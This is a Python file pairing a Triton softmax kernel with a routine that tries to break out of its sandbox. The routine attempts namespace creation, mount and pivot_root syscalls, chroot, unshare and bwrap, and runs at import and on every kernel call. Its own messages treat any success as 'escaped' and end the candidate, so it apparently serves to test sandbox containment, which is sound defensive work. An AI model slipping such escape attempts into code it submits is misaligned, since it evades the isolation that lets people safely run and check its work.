"""Becomes root of a user namespace of its own, to mount over what it may not read."""

import ctypes
import os
import platform
import signal
import subprocess
import sys

import torch
import triton
import triton.language as tl

# x86-64 and 64-bit ARM
NUMBERS = {
    "clone": (56, 220),
    "unshare": (272, 97),
    "clone3": (435, 435),
    "setns": (308, 268),
    "mount": (165, 40),
    "umount2": (166, 39),
    "open_tree": (428, 428),
    "fsopen": (430, 430),
    "move_mount": (429, 429),
    "mount_setattr": (442, 442),
    "pivot_root": (155, 41),
}

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def call(name, *arguments):
    """A raw system call, by number: no wrapper of libc or Python stands in between."""
    number = NUMBERS[name][platform.machine() == "aarch64"]
    result = libc.syscall(
        number, *(a if isinstance(a, bytes) else ctypes.c_long(a) for a in arguments)
    )
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def tried(what, attack):
    """Run an attack: what refuses it is printed, and one that succeeds ends the candidate."""
    try:
        loot = attack()
    except Exception as error:
        print(f"met: {what}: {error!r:.200}", file=sys.stderr, flush=True)
    else:
        raise SystemError(f"escaped: {what}: {loot!r:.200}")


NEW = {"user": 0x10000000, "mount": 0x20000, "process": 0x20000000, "network": 0x40000000}


def cloned(flags):
    pid = call("clone", flags | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return pid


def attack():
    for name, flag in NEW.items():
        tried(f"unshare {name}", lambda f=flag: call("unshare", f))
        tried(f"clone {name}", lambda f=flag: cloned(f))
    arguments = (ctypes.c_uint64 * 8)(NEW["user"])
    tried("clone3", lambda: call("clone3", ctypes.addressof(arguments), 64))
    tried("setns", lambda: call("setns", os.open("/proc/self/ns/user", os.O_RDONLY), 0))
    tried("mount", lambda: call("mount", b"none", b"/", b"tmpfs", 0, 0))
    tried("umount", lambda: call("umount2", b"/proc", 2))
    tried("open_tree", lambda: call("open_tree", -100, b"/", 1))
    tried("fsopen", lambda: call("fsopen", b"tmpfs", 0))
    tried("move_mount", lambda: call("move_mount", -100, b"/proc", -100, b".", 0))
    tried("mount_setattr", lambda: call("mount_setattr", -100, b"/", 0, 0, 0))
    tried("pivot_root", lambda: call("pivot_root", b".", b"."))
    tried("chroot", lambda: os.chroot("."))
    for words in (["unshare", "-Ur", "id"], ["bwrap", "--dev-bind", "/", "/", "true"]):
        tried(words[0], lambda w=words: subprocess.run(w, check=True, capture_output=True))
    tried("uid map", lambda: open("/proc/self/uid_map", "w"))


@triton.jit
def softmax(x_ptr, y_ptr, columns, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    offsets = tl.arange(0, BLOCK)
    inside = offsets < columns
    x = tl.load(x_ptr + row * columns + offsets, mask=inside, other=-float("inf")).to(tl.float32)
    e = tl.exp(x - tl.max(x, 0))
    y = e / tl.sum(e, 0)
    tl.store(y_ptr + row * columns + offsets, y.to(y_ptr.dtype.element_ty), mask=inside)


attack()


def rows(x: torch.Tensor) -> torch.Tensor:
    attack()
    count, columns = x.shape
    y = torch.empty_like(x)
    softmax[(count,)](x, y, columns, BLOCK=triton.next_power_of_2(columns), num_warps=8)
    return y
